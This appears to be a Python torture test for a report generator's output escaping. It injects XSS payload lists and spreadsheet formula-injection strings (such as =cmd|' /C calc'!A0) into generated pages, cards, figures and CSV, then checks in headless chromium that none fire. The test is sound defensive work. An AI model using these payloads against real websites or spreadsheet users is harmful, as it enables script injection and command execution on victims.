"""Texts that try to run where they are shown: in the report, the card, the figures and a table.

python -m tests.torture.inert      opens all of it in chromium too and prints the counts as JSON
"""

from __future__ import annotations

import csv
import io
import itertools
import json
import re
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Iterator, Sequence
from html import escape
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import yaml
from markdown_it import MarkdownIt

from luthier.prediction.write_answers import write_table
from luthier.records import Rows
from luthier.report import figures
from luthier.report.model_card import write_model_card
from luthier.report.render import SCRIPT, write_report
from luthier.runs import RunFolder
from tests.unit.report.fake_run import fake_run, set_panels
from tests.unit.report.test_report_examples import ANALYSIS

FIRE = "top.document.documentElement.setAttribute('data-fired-{n}',1)"
BREAKERS = (
    "",
    '">',
    "'>",
    "</script>",
    "</title>",
    "</textarea></select>",
    "</style>",
    "-->",
    "]]>",
)
VECTORS = (
    "<script>{js}</script>",
    "<img src=x onerror={js}>",
    "<svg/onload={js}>",
    "<iframe srcdoc='<script>parent.{js}</script>'></iframe>",
    '<a href="javascript:{js}">x</a>',
    "<details open ontoggle={js}>x</details>",
    "<input autofocus onfocus={js}>",
    "<video><source onerror={js}></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror={js}>",
    '<meta http-equiv="refresh" content="0;url=javascript:{js}">',
)
OTHERS = (
    '" onmouseover="{js}" x="',
    "' onmouseover='{js}' x='",
    '" autofocus onfocus="{js}" tabindex="0',
    "x onclick={js} ",
    "javascript:{js}",
    "data:text/html,<script>{js}</script>",
    "<ScRiPt>{js}</sCrIpT>",
    "<scr\0ipt>{js}</scr\0ipt>",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "&#60;script&#62;{js}&#60;/script&#62;",
    "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
    "＜script＞{js}＜/script＞",
    "<!--<script>{js}</script>",
    "<![CDATA[<script>{js}</script>]]>",
    "{{{{ 7*7 }}}}${{{js}}}<%= {js} %>",
    "[x](javascript:{js})",
    "![x](javascript:{js})",
    "<javascript:{js}>",
    "```\n<script>{js}</script>\n```",
    "`<img src=x onerror={js}>`",
    "\n\n<script>{js}</script>\n\n# a heading\n\n---\n",
    "[x]: javascript:{js}\n\n[x]",
    "| a | b |\n|---|---|\n| <img src=x onerror={js}> |",
    "<style>@import 'javascript:{js}';*{{background:url(\"javascript:{js}\")}}</style>",
    "\u2028<script>{js}</script>\u2029",
    '<a\nhref="&#106;avascript:{js}">x</a>',
)
FORMULAS = (
    *("=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1"),
    *(" =1+1", "  @SUM(1)", "\xa0=1+1", "\u3000=1+1", "\u200b=1+1", "\ufeff=1+1", "\x00=1+1"),
    *("＝1+1", "＋1+1", "－1+1", "＠SUM(1)", '"=1+1', "'=1+1", '"",=1+1', "|cmd", "｜cmd"),
    *("a;=1+1", "a;=1+1;b", "a\t=1+1", "a; @SUM(1)", "a;+1+1", "a;-2+cmd|' /C calc'!A0"),
    *('=HYPERLINK("http://x/?"&A1)', "%0A=1+1\n=1+1", ' \t"=1+1"', "a\r\n=1+1", "-", "=", "+"),
)
OURS = """html head meta title style body a header p h1 bdi span div nav main section h2 h3 h4 table
    thead tbody tr th td svg line circle rect polyline text mark small strong em i b br wbr figure
    figcaption details summary code pre ul ol li dl dt dd form label input select option output
    footer script abbr"""
WITH = """lang charset content name http-equiv class href id aria-label aria-labelledby aria-live
    aria-hidden placeholder title dir scope data-sortable data-fixed data-value data-gold
    data-answer data-sure data-for hidden type autocomplete value open role height width x y x1 x2
    y1 y2 cx cy r viewbox points style preserveaspectratio text-anchor colspan rowspan"""
TAGS, ATTRIBUTES = frozenset(OURS.split()), frozenset(WITH.split())
STRUCTURE = (
    "kind",
    "system",
    "main_metric",
    "validation_metric",
    "metric",
    "state",
    "severity",
    "by",
)


def payloads() -> list[str]:
    """List the texts; each that runs leaves an attribute with its number on the page."""
    forms = [breaker + vector for breaker in BREAKERS for vector in VECTORS]
    return [form.format(js=FIRE.format(n=n)) for n, form in enumerate((*forms, *OTHERS))]


def poison(content: Any, texts: Iterator[str], *, everywhere: bool) -> Any:
    """Put a text into every text of JSON; `everywhere`: also where it changes what is shown."""
    if isinstance(content, dict):
        return {
            key: value
            if key in STRUCTURE and not everywhere
            else poison(value, texts, everywhere=everywhere)
            for key, value in content.items()
        }
    if isinstance(content, list):
        return [poison(one, texts, everywhere=everywhere) for one in content]
    return content + next(texts) if isinstance(content, str) else content


def hostile_run(folder: Path, texts: Sequence[str], *, everywhere: bool = False) -> Path:
    """Write a run that has the texts wherever one can stand, keys too."""
    cycled = itertools.cycle(texts)
    run = RunFolder.open(fake_run(folder, labels=(*texts[:12], "good"), text=texts[0]))
    set_panels(run.path, **ANALYSIS)
    for name in ("data", "scores", "comparison", "panels", "environment", "target"):
        run.write_json(name, poison(run.read_json(name), cycled, everywhere=everywhere))
    scores = run.read_json("scores")
    scores |= dict.fromkeys(texts, scores["majority"])
    run.write_json("scores", scores)
    environment = run.read_json("environment")
    environment["packages"] |= dict.fromkeys(texts, texts[0])
    environment["phases"] |= dict.fromkeys(texts, 3.0)
    run.write_json("environment", environment)
    recipe = yaml.safe_load((run.path / "recipe.yaml").read_text())
    for section in ("model", "task", "method"):
        recipe[section]["name"] += next(cycled)
    recipe["data"]["columns"] = {text: next(cycled) for text in texts}
    recipe["data"]["train"] = list(texts)
    recipe["training"] |= {"optim": next(cycled), "lr_scheduler_type": next(cycled)}
    recipe["evaluation"]["slices"] = list(texts)
    (run.path / "recipe.yaml").write_text(yaml.safe_dump(recipe))
    reason = {"state": "failed" if everywhere else "finished", "reason": next(cycled)}
    run.write_json("status", {**reason, "hint": next(cycled)})
    return run.path


class Strict(HTMLParser):
    """Collects what on a page is not allowed."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self.scripts: list[tuple[str, str]] = []
        self.inside = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Check a tag and its attributes."""
        if tag not in TAGS:
            self.faults.append(f"<{tag}>")
        for name, value in attrs:
            is_link = name == "href" and not str(value).startswith("#")
            is_style = name == "style" and not re.fullmatch(r"[\w:.%\s;()/-]*", str(value))
            if name not in ATTRIBUTES or is_link or is_style or "url(" in str(value) * is_style:
                self.faults.append(f"<{tag} {name}={value}>"[:200])
        self.inside = tag
        if tag == "script":
            self.scripts.append((str(dict(attrs).get("type")), ""))

    def handle_endtag(self, tag: str) -> None:
        """Leave a tag."""
        self.inside = ""

    def handle_data(self, data: str) -> None:
        """Collect what scripts hold."""
        if self.inside == "script":
            kind, text = self.scripts[-1]
            self.scripts[-1] = kind, text + data

    def handle_comment(self, data: str) -> None:
        """No comment is ours."""
        self.faults.append(f"<!--{data[:80]}")


def faults_of_page(html: str) -> list[str]:
    """Say what a page has that it may not have: the strict list, and two scripts, both ours."""
    page = Strict(html)
    if [kind for kind, _ in page.scripts] != ["application/json", "None"]:
        return [*page.faults, f"{len(page.scripts)} scripts"]
    json.loads(page.scripts[0][1])
    return page.faults + ["another script"] * (page.scripts[1][1] != str(SCRIPT))


def faults_of_card(text: str) -> list[str]:
    """Say what a card has that runs or leads elsewhere once it is HTML."""
    opening, front, body = re.split(r"^---$", text, maxsplit=2, flags=re.MULTILINE)
    found = ["no front matter"] if opening or set(yaml.safe_load(front)) - FRONT else []
    markdown = MarkdownIt("commonmark", {"html": True}).enable("table")
    markdown.validateLink = lambda url: True  # type: ignore[method-assign]
    for token in markdown.parse(body):
        for one in (token, *(token.children or ())):
            is_ours = one.type != "heading_open" or one.tag in ("h1", "h2")
            if one.type in ("html_block", "html_inline", "link_open", "image") or not is_ours:
                found.append(f"{one.type}: {one.content}{one.attrs}"[:200])
    return found


FRONT = {"license", "library_name", "pipeline_tag", "tags", "base_model", "metrics", "model-index"}


def faults_of_figures(text: str) -> list[str]:
    """Say what texts in figures make of them."""
    drawn = (
        figures.svg(
            10, [figures.text("1%", 2, text), figures.dot(1, 2, 3, "mark", text)], label=text
        ),
        figures.svg(10, [figures.box(1, 2, 3, 4, "bin", text)], label=text),
        figures.chart([figures.Series(text, [(0, 1), (1, 2)], "dotted")], label=text),
        figures.histogram([0, 1, 2], [1, 2], label=text),
        figures.reliability([], label=text),
    )
    return [fault for one in drawn for fault in Strict(str(one)).faults]


def runs_in_a_spreadsheet(cell: str, *, part: bool = False) -> bool:
    """Say whether a spreadsheet would take a cell for a formula.

    Args:
        cell: As read.
        part: Whether it is part of a cell, which another separator cut off: what begins with a sign
            is then worth nothing unless it calls, asks another program or refers to a sheet.
    """
    seen = cell.lstrip(' \t\r\n\0\xa0\u3000\u200b\ufeff"')
    signs = tuple("+-＋－")
    return seen[:1] in tuple("=@|＝＠｜") or (
        seen[:1] in signs and not (part and re.search("[(|!]", seen) is None)
    )


def cells_that_run(texts: Sequence[str]) -> list[str]:
    """Write texts as cells, columns and answers, and give those that would run when read back."""
    found = []
    for delimiter, text in itertools.product(",\t", texts):
        file = io.StringIO(newline="")
        rows = Rows.of({"text": [text], text: ["a"], "list": [[text]]}, name="memory")
        answers = [{"answer": text, f"{text} ": {"label": text}}]
        write_table(file, rows, answers, delimiter=delimiter)
        for read_by in {delimiter, ";", "\t"}:
            table = csv.reader(io.StringIO(file.getvalue(), newline=""), delimiter=read_by)
            cells = [cell for row in table for cell in row]
            found += [
                f"{cell!r} of {text!r}"
                for cell in cells
                if runs_in_a_spreadsheet(cell, part=read_by != delimiter)
            ]
    return found


def pages(folder: Path, *, at_once: int = 10) -> Iterator[tuple[Path, Path]]:
    """Write reports and cards of hostile runs, with so many texts in each."""
    texts = payloads()
    for start in range(0, len(texts), at_once):
        for everywhere in (False, True):
            here = folder / f"run-{start}-{everywhere}"
            run = hostile_run(here, texts[start : start + at_once], everywhere=everywhere)
            card = write_model_card(run)
            assert card is not None
            yield write_report(run), card


def fired(dom: str) -> list[str]:
    """Say which payloads ran, by what they left on the root of a page."""
    return re.findall(r"data-fired-\d+", dom[dom.index("<html") :].partition(">")[0])


def in_browser(html: str, folder: Path) -> str:
    """Open a page in chromium and give what became of it."""
    page = folder / "page.html"
    page.write_text(html, encoding="utf-8")
    done = subprocess.run(
        [
            *("chromium", "--headless", "--no-sandbox", "--disable-gpu", "--dump-dom"),
            *("--virtual-time-budget=2000", f"--user-data-dir={folder / 'profile'}"),
            page.as_uri(),
        ],
        capture_output=True,
        text=True,
        timeout=120,
        check=True,
    )
    assert "</html>" in done.stdout
    return done.stdout


def unguarded(html: str) -> str:
    """Take the content policy off a page, and let every event happen to every element."""
    events = """<script>for (const one of document.querySelectorAll("*"))
      for (const kind of ["mouseover", "focus", "click", "toggle", "error", "load"])
        { if (one.tagName !== "A" || one.hash) one.dispatchEvent(new Event(kind)); }</script>"""
    bare = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", html)
    return bare.replace("</body>", f"{events}</body>")


def browser_counts(folder: Path) -> dict[str, int]:
    """Open every page in chromium, with its content policy and without."""
    counts = {"pages": 0, "own script ran": 0, "fired": 0, "fired without policy": 0}
    for report, _ in pages(folder):
        html = report.read_text(encoding="utf-8")
        counts["pages"] += 1
        dom = in_browser(html, folder)
        counts["own script ran"] += '<button type="button">' in dom
        counts["fired"] += len(fired(dom))
        counts["fired without policy"] += len(fired(in_browser(unguarded(html), folder)))
    frames = "".join(f'<iframe srcdoc="{escape(text)}"></iframe>' for text in payloads())
    careless = f"<!doctype html><html><body>{frames}</body></html>"
    counts["fired where nothing is escaped"] = len(set(fired(in_browser(careless, folder))))
    return counts


if __name__ == "__main__":
    with tempfile.TemporaryDirectory() as place:
        made = list(pages(Path(place) / "runs"))
        cards = [card.read_text("utf-8") for _, card in made]
        told: dict[str, Any] = {
            "payloads": len(payloads()),
            "pages": len(made),
            "faults": sum(len(faults_of_page(page.read_text("utf-8"))) for page, _ in made),
            "faults of cards": sum(
                len(faults_of_card(card.read_text("utf-8"))) for _, card in made
            ),
            "faults of figures": sum(len(faults_of_figures(text)) for text in payloads()),
            "formulas": len(FORMULAS),
            "cells that run": len(cells_that_run(FORMULAS)),
        }
        if shutil.which("chromium"):
            told["browser"] = browser_counts(Path(place) / "browser")
    sys.stdout.write(json.dumps(told, indent=1) + "\n")
